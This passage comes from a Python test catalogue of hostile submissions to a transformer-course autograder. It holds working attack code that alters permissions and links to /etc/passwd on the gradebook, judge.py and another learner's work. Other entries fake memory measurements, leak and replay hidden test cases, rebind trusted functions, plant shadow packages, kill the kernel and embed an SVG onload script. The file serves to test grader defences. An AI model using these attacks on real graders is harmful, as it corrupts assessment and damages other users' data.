    yield "link", lambda: (os.link(path, path + "-{marker}"), keep and os.unlink(path + "-{marker}"))
    yield "symlink", lambda: (os.symlink("/etc/passwd", path + "-{marker}"), keep and os.unlink(path + "-{marker}"))
    yield "rename", lambda: (os.rename(path, path + "-{marker}"), os.rename(path + "-{marker}", path))
    yield "truncate", lambda: os.truncate(path, st.st_size if keep else 0)
    yield "mknod", lambda: (os.mknod(path + "-{marker}", stat.S_IFIFO | 0o600), keep and os.unlink(path + "-{marker}"))

def _everything(paths, keep):
    for path in paths:
        try:
            calls = list(_calls(path, keep))
        except OSError as exc:
            print("cannot even stat", path, type(exc).__name__)
            continue
        for name, call in calls:
            try:
                call()
                print("{marker} ''' + GOT + ''':", name, path)
            except OSError as exc:
                print("refused:", name, path, type(exc).__name__)
'''

ATTACKS.update({
    "metadata_calls_on_the_course": Attack("softmax", "chmod 000 and 6777, chown, future times, xattrs, links, "
                                           "renames, truncation and FIFOs on the course and another learner's "
                                           "submission", ZEROS + METADATA_CALLS + '''
_everything(["{course}/submitted/solution/01_context_vectors/01_context_vectors.ipynb",
             "{course}/source/01_context_vectors/01_context_vectors.ipynb",
             "{course}/instructor/grading/attention_grading/hidden/judge.py", "{course}/gradebook.db"], keep=False)
'''),
    "metadata_calls_on_the_environment": Attack("softmax", "every metadata call on the course environment and the "
                                                "Python installation", ZEROS + METADATA_CALLS + '''
import numpy, sysconfig
_everything([numpy.__file__, sysconfig.get_paths()["purelib"], os.__file__, os.path.dirname(os.__file__)], keep=True)
'''),
    "metadata_calls_on_the_learner_package": Attack("softmax", "every metadata call on the learner package (mode "
                                                    "000 on it once scored a later learner 0)",
                                                    ZEROS + METADATA_CALLS + '''
import attention_course
_everything([attention_course.__file__, os.path.dirname(attention_course.__file__)], keep=True)
'''),
})


# ---------------------------------------------------------------- measurements (item 4, lesson 08)

def _full_matrix(trick):
    return Attack("tiled_attention", f"build the full T × T matrix, then {trick[0]}", '''
def _attention(Q, K, V, causal):
    S = Q @ np.swapaxes(K, -1, -2) / np.sqrt(K.shape[-1])
    if causal:
        S = np.where(np.tril(np.ones(S.shape[-2:], dtype=bool)), S, -np.inf)
    W = np.exp(S - S.max(axis=-1, keepdims=True))
    return (W / W.sum(axis=-1, keepdims=True)) @ V

def tiled_attention(Q, K, V, block_size=64, causal=False):
    Q, K, V = (np.asarray(a, dtype=float) for a in (Q, K, V))
''' + trick[1], lesson=MEASURED_LESSON)


ATTACKS.update({
    "memory_reset_peak": _full_matrix(("reset tracemalloc's peak (once: 3/3)", '''
    import tracemalloc
    O = _attention(Q, K, V, causal)
    if tracemalloc.is_tracing():
        tracemalloc.reset_peak()
    return O
''')),
    "memory_stop_tracemalloc": _full_matrix(("stop tracemalloc", '''
    import tracemalloc
    O = _attention(Q, K, V, causal)
    tracemalloc.stop()
    return O
''')),
    "memory_in_a_child_process": _full_matrix(("compute it in a child process, whose memory the kernel's "
                                               "own accounting never saw", '''
    import os
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        data = np.ascontiguousarray(_attention(Q, K, V, causal)).tobytes()
        while data:
            data = data[os.write(write_end, data):]
        os._exit(0)
    os.close(write_end)
    chunks = []
    while chunk := os.read(read_end, 1 << 20):
        chunks.append(chunk)
    os.close(read_end)
    os.waitpid(child, 0)
    shape = np.broadcast_shapes(Q.shape[:-2], K.shape[:-2], V.shape[:-2]) + (Q.shape[-2], V.shape[-1])
    return np.frombuffer(b"".join(chunks)).reshape(shape)
''')),
    # Memory made resident before a measured call and reused during it takes no new page.
    "memory_kept_buffer": Attack("tiled_attention", "build the full T × T matrix in a buffer made resident "
                                 "when the answer cell ran, so that no call takes a new page", '''
_KEPT = np.ones(1 << 25)                 # 256 MB, every page touched now

def tiled_attention(Q, K, V, block_size=64, causal=False):
    Q, K, V = (np.asarray(a, dtype=float) for a in (Q, K, V))
    T_q, T_k = Q.shape[-2], K.shape[-2]
    if Q.ndim != 2 or K.ndim != 2 or T_q * T_k > _KEPT.size:
        S = Q @ np.swapaxes(K, -1, -2)
    else:
        S = np.matmul(Q, K.T, out=_KEPT[:T_q * T_k].reshape(T_q, T_k))
    S /= np.sqrt(K.shape[-1])
    if causal:
        for i in range(T_q):
            S[..., i, i + 1:] = -np.inf
    S -= S.max(axis=-1, keepdims=True)
    np.exp(S, out=S)
    S /= S.sum(axis=-1, keepdims=True)
    return S @ V
''', lesson=MEASURED_LESSON),
    "memory_allocator_keeps_freed_heap": Attack("tiled_attention", "have glibc keep freed memory (mallopt) and "
                                                "free 512 MB when the answer cell runs, so that the full T × T "
                                                "matrix reuses resident pages", '''
import ctypes
_libc = ctypes.CDLL(None)
_libc.mallopt(-3, 1 << 30)               # M_MMAP_THRESHOLD: large blocks come from the heap
_libc.mallopt(-1, 1 << 30)               # M_TRIM_THRESHOLD: freed heap stays resident
_libc.mallopt(-4, 0)                     # M_MMAP_MAX: never a fresh mapping
_pool = [np.ones(1 << 24) for _ in range(4)]       # 512 MB touched, then freed
del _pool

def tiled_attention(Q, K, V, block_size=64, causal=False):
    Q, K, V = (np.asarray(a, dtype=float) for a in (Q, K, V))
    S = Q @ np.swapaxes(K, -1, -2) / np.sqrt(K.shape[-1])
    if causal:
        S = np.where(np.tril(np.ones(S.shape[-2:], dtype=bool)), S, -np.inf)
    W = np.exp(S - S.max(axis=-1, keepdims=True))
    return (W / W.sum(axis=-1, keepdims=True)) @ V
''', lesson=MEASURED_LESSON),
    "memory_inflated_short_call": _full_matrix(("take 400 MB during each short call, so that the long "
                                                "one looks in proportion", '''
    if Q.shape[-2] < 2048:
        ballast = np.ones(50 << 20)      # 400 MB, every page touched
        del ballast
    return _attention(Q, K, V, causal)
''')),
    "memory_clear_refs": _full_matrix(("reset its own peak resident memory (/proc/self/clear_refs)", '''
    O = _attention(Q, K, V, causal)
    try:
        open("/proc/self/clear_refs", "w").write("5")
        print("{marker} ''' + GOT + ''' clear_refs")
    except OSError:
        pass
    return O
''')),
})


# ---------------------------------------------------------------- learner bytes that break the grader (item 9)

def _deeply_nested(text, depth=100_000):
    """The notebook with one cell's metadata nested ``depth`` lists deep (about 200 KB)."""
    nb = json.loads(text)
    nb["cells"][0]["metadata"]["deep"] = "@@NESTED@@"
    return json.dumps(nb).replace('"@@NESTED@@"', "[" * depth + "]" * depth)


def _oversized(text, size=24 << 20):
    nb = json.loads(text)
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * size, "id": "oversized"})
    return json.dumps(nb)


ATTACKS.update({
    "deeply_nested_notebook": Attack("softmax", "200 KB of nested lists (once: RecursionError in intake, and "
                                     "nobody graded)", ZEROS, raw=_deeply_nested, graded=False),
    "oversized_notebook": Attack("softmax", "a 24 MB notebook", ZEROS, raw=_oversized, graded=False),
    "huge_outputs_of_every_kind": Attack("softmax", "tens of MB of display data, HTML, results, updates, widget "
                                         "state and a huge error (once: a 151 MB autograded notebook, a 2.8 GB "
                                         "worker)", ZEROS + '''
import ipywidgets
from IPython.display import HTML, display
_block = "{marker} " + "x" * (1 << 20)
for _ in range(30):
    display({{"text/plain": _block}}, raw=True)
    display(HTML("<p>" + _block + "</p>"))
_handle = display({{"text/plain": "small"}}, raw=True, display_id=True)
for _ in range(30):
    _handle.update({{"text/plain": _block}}, raw=True)
for _ in range(10):
    display(ipywidgets.Textarea(value=_block * 4))
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().displayhook(_block))
raise ValueError(_block * 8)
'''),
    "bad_image_outputs": Attack("softmax", "images that are not base64 (once: KeyError in the sanitiser, a blank)",
                                ZEROS + '''
from IPython.display import display
display({{"image/png": "not base64 at all!", "text/plain": "a picture"}}, raw=True)
display({{"image/jpeg": ["@@", "!!"], "image/gif": "%%%", "text/plain": "more pictures"}}, raw=True)
display({{"image/svg+xml": "<svg onload=alert(1)></svg>", "image/png": "=" * 7}}, raw=True)
'''),
    "malformed_output_messages": Attack("softmax", "IOPub messages whose content nbformat does not allow", ZEROS + '''
def _malformed(*_):
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    for kind, content in (("display_data", {{"data": "not a mapping", "metadata": []}}),
                          ("execute_result", {{"data": {{"image/png": {{"nested": [1, 2]}}}}, "metadata": {{}},
                                               "execution_count": "one"}}),
                          ("execute_result", {{"data": {{}}, "metadata": {{}}, "execution_count": 2}}),
                          ("stream", {{"name": "stdout", "text": {{"not": "text"}}}}),
                          ("stream", {{"name": "elsewhere", "text": "x"}}),
                          ("error", {{"ename": 3, "evalue": None, "traceback": {{"a": 1}}}}),
                          ("display_data", {{"data": {{"text/plain": [[[[["deep"]]]]]}}, "metadata": {{}}}}),
                          ("update_display_data", {{"data": 7, "metadata": {{}}, "transient": {{"display_id": "x"}}}})):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kernel._topic(kind))
get_ipython().events.register("post_run_cell", _malformed)
'''),
})


# ---------------------------------------------------------------- cases carried to the next attempt (issue 37, point 1)

# An attack's answers are looked up by the exact inputs a call receives (bytes, dtype, shape, and
# every other argument); the same function, run here on the grader's cases, names them alike.
KEYED_ANSWERS = '''
import hashlib, json
_SEEN, _ANSWERS = [], {{}}

def _key(*values):
    h = hashlib.sha256()
    for v in values:
        if isinstance(v, np.ndarray):
            h.update(v.dtype.str.encode() + repr(v.shape).encode() + np.ascontiguousarray(v).tobytes())
        else:
            h.update(repr(v).encode())
    return h.hexdigest()

def _on_file():
    try:
        with open("answers.json") as fh:
            return json.load(fh)
    except (OSError, ValueError):
        return {{}}

def _answer(*values):
    """The answer handed in for exactly these inputs, or None."""
    known = _on_file().get(_key(*values))
    if known is None:
        return None
    return tuple(np.array(part) for part in known) if isinstance(known, list) and known and \\
        isinstance(known[0], list) and isinstance(known[-1], list) and len(known) == 2 and \\
        np.ndim(known[0]) != np.ndim(known[1]) else np.array(known)

def _leaked():
    return "{marker} LEAKED " + json.dumps(_ANSWERS)
'''

CARRIED_SOFTMAX = KEYED_ANSWERS + '''
def softmax(x, axis=-1):
    _SEEN.append((x, axis))            # during its hidden test: the grader's inputs
    known = _answer(x, axis)
    if known is not None:
        return known
    return np.zeros_like(np.asarray(x, dtype=float))
'''

ASKING_CONTEXTUALIZE = ("contextualize", '''
def contextualize(X):
    X = np.asarray(X, dtype=float)
    A = softmax(X @ np.swapaxes(X, -1, -2) / np.sqrt(X.shape[-1]), axis=-1)
    for x, axis in list(_SEEN):        # softmax's own hidden inputs, asked of the grader's softmax
        try:
            _ANSWERS[_key(x, axis)] = np.asarray(softmax(x, axis=axis)).tolist()
        except Exception:
            pass
    return A @ X, A
''')

CARRIED_MHA = KEYED_ANSWERS + '''
def multi_head_attention(X, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    _SEEN.append((X, W_Q, W_K, W_V, W_O, n_heads, mask))
    known = _answer(X, W_Q, W_K, W_V, W_O, n_heads, mask)
    if known is not None:
        return known
    X = np.asarray(X, dtype=float)
    T = X.shape[-2]
    return np.zeros(X.shape[:-1] + (np.shape(W_O)[-1],)), np.zeros(X.shape[:-2] + (n_heads, T, T))
'''

# Lesson 09's transformer_block, graded while multi_head_attention is lent: it asks the lent one
# for the answers to lesson 06's hidden inputs (handed in beside it) and keeps them for a later cell.
ASKING_TRANSFORMER_BLOCK = KEYED_ANSWERS + '''
def layer_norm(x, gamma, beta, eps=1e-5):
    x = np.asarray(x, dtype=float)
    mean = x.mean(axis=-1, keepdims=True)
    return gamma * (x - mean) / np.sqrt(x.var(axis=-1, keepdims=True) + eps) + beta

def transformer_block(x, params, mask):
    p = params
    try:
        with open("lesson06_inputs.json") as fh:
            asked = json.load(fh)
    except (OSError, ValueError):
        asked = []
    for args, n_heads, mask_06 in asked:
        args = [np.array(a) for a in args]
        mask_06 = None if mask_06 is None else np.array(mask_06, dtype=bool)
        try:
            O, A = multi_head_attention(*args, n_heads, mask=mask_06)
            _ANSWERS[_key(*args, n_heads, mask_06)] = [np.asarray(O).tolist(), np.asarray(A).tolist()]
        except Exception:
            pass
    h = layer_norm(x, p["ln1_gamma"], p["ln1_beta"])
    attended, _ = multi_head_attention(h, p["W_Q"], p["W_K"], p["W_V"], p["W_O"], p["n_heads"], mask=mask)
    x = x + attended
    h = layer_norm(x, p["ln2_gamma"], p["ln2_beta"])
    return x + np.maximum(h @ p["W_1"] + p["b_1"], 0) @ p["W_2"] + p["b_2"]
'''


# Pasted into lesson 09 unwritten: every answer it gets comes from the grader's lent one.
UNWRITTEN_MHA = '''
def multi_head_attention(X, W_Q, W_K, W_V, W_O, n_heads, mask=None):
    raise NotImplementedError("asked of the grader instead")
'''


def _print_at_the_end(nb):
    """A cell of its own after every other: what the attack kept, printed into its feedback."""
    nb.cells.append(nbformat.v4.new_code_cell("print(_leaked())"))
    return nb


def _json_ready(value):
    if isinstance(value, tuple):
        return [np.asarray(v).tolist() for v in value]
    return np.asarray(value).tolist()


def drawn_cases(root, student, lesson, function, attempt):
    """The hidden cases of ``function`` that attempt number ``attempt`` of ``student`` drew, as the
    grader drew them (the course's secret and attempts ledger): [(the arguments the kernel receives,
    bound to the reference's parameters, the reference's answer)]."""
    import inspect

    from attention_grading.hidden import kernel_probe
    from attention_grading.hidden import registry
    from attention_grading.hidden.cases import case_generator
    from attention_grading.hidden.attempts import AttemptLedger
    from attention_grading.hidden.cases import course_secret
    from attention_grading.hidden.reference import reference

    entry = AttemptLedger(root).attempts(student, lesson)[attempt - 1]
    spec = registry.get(function)
    g = case_generator(bytes.fromhex(course_secret(root)), entry.key(student, lesson), function)
    R, drawn = reference(), []
    signature = inspect.signature(getattr(R, function))
    for case in spec.cases(g):
        received = [kernel_probe.decode(kernel_probe.encode(a)) for a in case.args]
        keywords = {k: kernel_probe.decode(kernel_probe.encode(v)) for k, v in case.kwargs.items()}
        bound = signature.bind(*received, **keywords)
        bound.apply_defaults()
        drawn.append((list(bound.arguments.values()), getattr(R, function)(*case.args, **case.kwargs)))
    return drawn


def answers_of_attempt(root, student, lesson, function, namespace, attempt=1):
    """{key: the reference's answer} for every hidden case of ``function`` in attempt ``attempt``,
    keyed by the attack's own ``_key`` (``namespace``: its code, run here): what a learner who
    mined that attempt completely would hand in with the next."""
    return {namespace["_key"](*values): _json_ready(answer)
            for values, answer in drawn_cases(root, student, lesson, function, attempt)}


def leaked(text):
    """{key: answer} an attack printed (``_leaked``) in ``text`` (a notebook's JSON or a page)."""
    found = {}
    for payload in re.findall(r"LEAKED (\{.*?\})(?:\\n|\n|\"|<)", text):
        try:
            found.update(json.loads(payload.replace('\\"', '"')))
        except ValueError:
            pass
    return found


def _next_attempt_with_answers(function):
    """The next attempt: the same notebook, and beside it every answer of the first attempt's hidden
    cases of ``function``, both what its feedback showed and what mining it completely would give."""
    def files(root, student, namespace, first_attempt_text=""):
        lesson = ATTACKS[student.removeprefix("attack_")].lesson
        answers = leaked(first_attempt_text)
        answers.update(answers_of_attempt(root, student, lesson, function, namespace))
        return [("answers.json", json.dumps(answers))]
    return files


def _lesson06_inputs_for_lesson09(root, student, namespace):
    """Lesson 06's hidden inputs of multi_head_attention (its first attempt), for lesson 09's
    transformer_block to ask the lent multi_head_attention about."""
    inputs = []
    for values, _ in drawn_cases(root, student, "06_multi_head", "multi_head_attention", 1):
        X, W_Q, W_K, W_V, W_O, n_heads, mask = values
        inputs.append([[np.asarray(a).tolist() for a in (X, W_Q, W_K, W_V, W_O)], n_heads,
                       None if mask is None else np.asarray(mask).tolist()])
    return [("lesson06_inputs.json", json.dumps(inputs))]


ATTACKS.update({
    "carry_cases_to_the_next_attempt": Attack(
        "softmax", "attempt 1: softmax records its hidden inputs, contextualize asks the lent softmax for their "
        "answers, a last cell prints them; attempt 2: the same notebook and a file of those answers (once: 3/3 "
        "for a softmax never written)", CARRIED_SOFTMAX, second=ASKING_CONTEXTUALIZE, edit=_print_at_the_end,
        resubmit=_next_attempt_with_answers("softmax"), leaks=True),
    "carry_cases_across_lessons": Attack(
        "multi_head_attention", "lesson 06 attempt 1 records multi_head_attention's hidden inputs; lesson 09's "
        "transformer_block asks the lent multi_head_attention for their answers and prints them; lesson 06 "
        "attempt 2 answers from a file (once: 3 to 9 of 12)", CARRIED_MHA, lesson="06_multi_head",
        edit=_print_at_the_end, resubmit=_next_attempt_with_answers("multi_head_attention"), leaks=True,
        companion=("09_small_gpt", {"transformer_block": ASKING_TRANSFORMER_BLOCK,
                                    "multi_head_attention": UNWRITTEN_MHA}, _print_at_the_end,
                   _lesson06_inputs_for_lesson09),
        full_only="test_hostile_catalogue.py::test_a_case_carried_to_the_next_attempt_earns_nothing"),
    "hidden_inputs_in_exceptions": Attack("softmax", "carry its hidden inputs out in an exception's type and "
                                          "message, an escaping KeyboardInterrupt, warnings, writes to fd 1 and "
                                          "2 and its kernel's log (then it crashes) while its tests run", '''
import os, warnings
def _said(x):
    return " ".join(repr(float(v)) for v in np.ravel(np.asarray(x, dtype=float))[:24])

def softmax(x, axis=-1):
    values = _said(x)
    print("{marker} print", values)
    warnings.warn("{marker} warned " + values, RuntimeWarning)
    if np.ndim(x) == 1:
        raise KeyboardInterrupt("{marker} interrupted " + values)      # escapes the probe's except
    raise type("Leak_" + values.replace(" ", "_").replace(".", "p").replace("-", "m")[:60], (ValueError,), {{}})(
        "{marker} raised " + values)
''', second=("contextualize", '''
def contextualize(X):
    values = _said(X)
    os.write(1, ("{marker} fd1 " + values + "\\n").encode())
    os.write(2, ("{marker} fd2 " + values + "\\n").encode())
    os._exit(3)                        # its kernel's log goes to the grader's notes
'''), wrong=("contextualize",), leaks=True),
})


# ---------------------------------------------------------------- a kernel killed by a hook (issue 37, point 4)

SCRATCH_CELL = "print('a scratch cell of my own')"


def _with_hook(hook):
    """The solution, with a cell of the learner's own just before softmax's test (so that the grader
    switches its figures off at the test's index) and, after softmax's answer, a cell registering
    ``hook`` (``SCRATCH``: that cell's source)."""
    def edit(nb):
        test = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "softmax_matches_reference")
        nb.cells.insert(test, nbformat.v4.new_code_cell(SCRATCH_CELL))
        answer = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "softmax" and is_solution_code(c))
        nb.cells.insert(answer + 1, nbformat.v4.new_code_cell(f"SCRATCH = {SCRATCH_CELL!r}\n" + hook))
        return nb
    return edit


ATTACKS.update({
    "hook_kills_the_kernel_at_a_test_cell": Attack(
        "softmax", "a pre_run_cell hook kills the kernel as softmax's test cell starts, right after the grader "
        "switched figures off at that cell's index (once: the switch took the cell's place, the cell vanished: "
        "needs manual grading, the crash blamed on the grader's cell)",
        None, edit=_with_hook('''
import os
def _kill(info):
    if info.raw_cell.lstrip().startswith("\'\'\'softmax agrees with the reference"):
        os._exit(1)
get_ipython().events.register("pre_run_cell", _kill)
''')),
    "hook_kills_the_kernel_before_a_test_cell": Attack(
        "softmax", "a post_run_cell hook kills the kernel after the cell just before softmax's test", None,
        full_only="test_hostile_catalogue.py::test_every_graded_cell_stays_with_a_score", edit=_with_hook('''
import os
def _kill(result):
    if result.info.raw_cell.strip() == SCRATCH:
        os._exit(1)
get_ipython().events.register("post_run_cell", _kill)
'''), correct=True),
})


# ---------------------------------------------------------------- any text JSON holds; stand-ins within bounds (point 6)

def _any_text(text):
    """The notebook with lone surrogates and control characters in an answer's comment (softmax: it
    still runs), in contextualize's code (a NUL: it cannot run), in prose, written answers and
    metadata, written as JSON escapes, as a valid notebook may hold them."""
    data = json.loads(text)
    for cell in data["cells"]:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid == "softmax" and cell["cell_type"] == "code":
            source = source.replace("def softmax(x, axis=-1):", "def softmax(x, axis=-1):  # \ud800\udfff \x01\x1b\x7f\x85")
        elif gid == "contextualize" and cell["cell_type"] == "code":
            source += "\n\x00"
        elif cell["cell_type"] == "markdown":
            source += " \ud800 \x00\x01\x0c \ufffe"
        cell["source"] = source
        cell.setdefault("metadata", {})["note"] = "\udbff\x02"
    data["metadata"]["\udc80key"] = ["\ud800", "\x00"]
    data["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                          "source": FORGED_SURROGATES})
    return json.dumps(data, ensure_ascii=True)


# Outputs holding lone surrogates, sent as JSON escapes (a kernel's own messages cannot encode them).
FORGED_SURROGATES = r"""
import json
from IPython.display import display
from jupyter_client.session import json_default
get_ipython().kernel.session.pack = lambda obj: json.dumps(obj, default=json_default, ensure_ascii=True).encode()
print("printed \ud800 and \x00")
display({"text/plain": "shown \udfff", "text/html": "<b>\udbff</b>"}, raw=True)
"""


ATTACKS.update({
    "text_any_json_holds": Attack(
        "contextualize", "lone surrogates and control characters (JSON escapes) in code, prose, written answers, "
        "metadata and outputs (once: UnicodeEncodeError, the submission failed)", None, raw=_any_text,
        written=("self_weight_answer", "row_softmax_answer")),
    "stand_in_asked_for_huge_answers": Attack(
        "generate", "ask the lent positional_encoding for 4096 × 4096 tables, again and again (once: 887 MiB in the "
        "grading worker, 322 s for a 42 s job)", '''
def generate(params, prompt, n_new, temperature=1.0, top_k=None, rng=None):
    for _ in range(400):
        try:
            positional_encoding(4096, 4096)
        except Exception:
            pass
    return [int(t) for t in prompt] + [0] * n_new, np.zeros((n_new, 3))
''', lesson="09_small_gpt",
        full_only="unit/test_conversation.py::test_stand_ins_are_bounded_by_the_tests_own_calls"),
})



# ---------------------------------------------------------------- trusted drivers (issue 37, point 2)

ASCENT_ADAM = '''
import numpy as np

def adam_step(p, g, m, v, t, lr=0.01, beta1=0.9, beta2=0.999, eps=1e-8):
    g = np.asarray(g, dtype=float)
    m = beta1 * np.asarray(m, dtype=float) + (1 - beta1) * g
    v = beta2 * np.asarray(v, dtype=float) + (1 - beta2) * g * g
    return np.asarray(p, dtype=float) + lr * (m / (1 - beta1 ** t)) / (np.sqrt(v / (1 - beta2 ** t)) + eps), m, v
'''
RIGHT_ADAM = '''
def _right_step(p, g, m, v, t, lr=0.01, beta1=0.9, beta2=0.999, eps=1e-8):
    g = np.asarray(g, dtype=float)
    m = beta1 * np.asarray(m, dtype=float) + (1 - beta1) * g
    v = beta2 * np.asarray(v, dtype=float) + (1 - beta2) * g * g
    return np.asarray(p, dtype=float) - lr * (m / (1 - beta1 ** t)) / (np.sqrt(v / (1 - beta2 ** t)) + eps), m, v
'''
# Every catalogued name the shadow package would have to provide resolves to the real package's.
SHADOW_INIT = '''import os, sys
print("{marker} GOT: the attention_course/ handed in was imported")
_here = os.path.realpath(os.path.dirname(__file__))
for _entry in list(sys.path):
    _real = os.path.join(_entry or ".", "attention_course")
    if os.path.isdir(_real) and os.path.realpath(_real) != _here:
        __path__.append(_real)
        break
'''
SHADOW_CAPSTONE = '''print("{marker} GOT: the capstone.py handed in was imported")
import importlib.util as _util, os as _os, numpy as np
import attention_course as _package
_spec = _util.spec_from_file_location("_real_capstone", _os.path.join(_package.__path__[-1], "capstone.py"))
_real = _util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
globals().update({{k: v for k, v in vars(_real).items() if not k.startswith("__")}})
''' + RIGHT_ADAM + '''
def fit(model_backward, adam_step, *args, **kwargs):
    return _real.fit(model_backward, _right_step, *args, **kwargs)
'''

ATTACKS.update({
    "rebind_the_training_loop": Attack(
        "adam_step", "gradient ascent in adam_step, and a cell that rebinds attention_course.capstone.fit "
        "to train with a right Adam whatever it is given", ASCENT_ADAM + RIGHT_ADAM + '''
import attention_course.capstone as _capstone
_fit = _capstone.fit
_capstone.fit = lambda model_backward, adam_step, *args, **kwargs: _fit(model_backward, _right_step, *args, **kwargs)
''', lesson=CAPSTONE, full_only="unit/test_trusted_drivers.py::test_a_rebound_library_loop_decides_nothing"),
    "rebind_the_sampler": Attack(
        "sample_next", "a sample_next that ignores the temperature, and a cell that rebinds "
        "attention_course.small_gpt.draw_samples to draw right", '''
import numpy as np
import attention_course.small_gpt as _small_gpt

def sample_next(logits, temperature, top_k, rng):
    z = np.asarray(logits, dtype=float)
    if top_k is not None and top_k < z.size:
        z = np.where(z >= np.sort(z)[-top_k], z, -np.inf)
    p = np.exp(z - z.max())
    return int(rng.choice(z.size, p=p / p.sum()))

def _right(logits, temperature, top_k, rng):
    return sample_next(np.asarray(logits, dtype=float) / temperature, 1.0, top_k, rng)

def _draw_samples(sample_next, logits, temperature, top_k, seed, n):
    runs = []
    for _ in range(2):
        rng = np.random.default_rng(seed)
        runs.append([_right(logits, temperature, top_k, rng) for _ in range(int(n))])
    return np.array(runs, dtype=np.int64)

_small_gpt.draw_samples = _draw_samples
''', lesson=SMALL_GPT, full_only="unit/test_trusted_drivers.py::test_a_rebound_library_loop_decides_nothing"),
    "shadow_package_folder": Attack(
        "adam_step", "hand in an attention_course/ folder (whose capstone.fit trains with a right Adam) and a "
        "numpy/ folder beside a notebook byte-identical to an honest one with gradient ascent", ASCENT_ADAM,
        extra_files=(("attention_course/__init__.py", SHADOW_INIT), ("attention_course/capstone.py", SHADOW_CAPSTONE),
                     ("numpy/__init__.py", "print('{marker} GOT: the numpy/ handed in was imported')\n"
                                           "raise ImportError('not numpy')\n")),
        lesson=CAPSTONE, full_only="test_kernels.py::test_a_folder_handed_in_never_shadows_an_installed_package"),
})

# What every attack above must still allow: it is the learner's own softmax, wrong on purpose
# where the attack fails. Written answers are left empty.


def selected(full):
    """The attacks a tier grades: every one in the full tier; in the quick tier, those on lesson 01,
    less the few that wait out a limit for long where a quick test proves the same wall (``full_only``)."""
    return sorted(name for name, attack in ATTACKS.items()
                  if full or (attack.lesson == LESSON and not attack.full_only))


def lessons_of(names):
    """The lessons the attacks ``names`` are handed in for (companions' included), in order."""
    return sorted({ATTACKS[name].lesson for name in names} |
                  {ATTACKS[name].companion[0] for name in names if ATTACKS[name].companion})


LESSONS = tuple(lessons_of(ATTACKS))


def build(answer, name, context):
    """The submission of attack ``name``: (its notebook, its extra files, the text of the file it
    hands in instead of the notebook, or None). ``answer``: the solved notebook of its lesson."""
    attack = ATTACKS[name]
    fill = {**context, "marker": PREFIX + name}
    nb = lean(answer)
    if attack.delete_answer:
        nb.cells = [c for c in nb.cells if not (grade_id(c) == attack.target and is_solution_code(c))]
    elif attack.code is not None:
        nb = with_answer(nb, attack.target, attack.code.format(**fill))
    if attack.second:
        nb = with_answer(nb, attack.second[0], attack.second[1].format(**fill))
    if attack.written_text:
        for cell in nb.cells:
            if is_written_answer(cell):
                cell.source = attack.written_text.format(**fill)
    if attack.reorder:
        cells = nb.cells
        first_hidden = next(i for i, c in enumerate(cells) if grade_id(c) == "softmax_matches_reference")
        moving = [c for c in cells if grade_id(c) == "contextualize" or grade_id(c) in _tests_of(nb, "contextualize")]
        rest = [c for c in cells if all(c is not m for m in moving)]
        at = next(i for i, c in enumerate(rest) if c is cells[first_hidden])
        nb.cells = rest[:at] + moving + rest[at:]
    if attack.edit is not None:
        nb = attack.edit(nb)
    raw = attack.raw(nbformat.writes(nb)) if attack.raw is not None else None
    return nb, [(path, content.format(**fill)) for path, content in attack.extra_files], raw


def build_companion(answer, name, context):
    """The notebook attack ``name`` hands in to its companion lesson (``answer``: that lesson's
    solved notebook)."""
    lesson, codes, edit, _ = ATTACKS[name].companion
    fill = {**context, "marker": PREFIX + name}
    nb = lean(answer)
    for function, code in codes.items():
        nb = with_answer(nb, function, code.format(**fill))
    return edit(nb) if edit is not None else nb


def attack_namespace(name, context):
    """The attack's own code, run here (``np`` given): its helpers, such as the ``_key`` that names
    an answer the way the attack looks it up."""
    attack = ATTACKS[name]
    fill = {**context, "marker": PREFIX + name}
    namespace = {"np": np}
    exec(attack.code.format(**fill), namespace)
    return namespace


def _tests_of(nb, function):
    from attention_grading.cells import CellPlan

    plan = CellPlan(nb.cells)
    return {grade_id(nb.cells[i]) for i in plan.tests_of(function)}
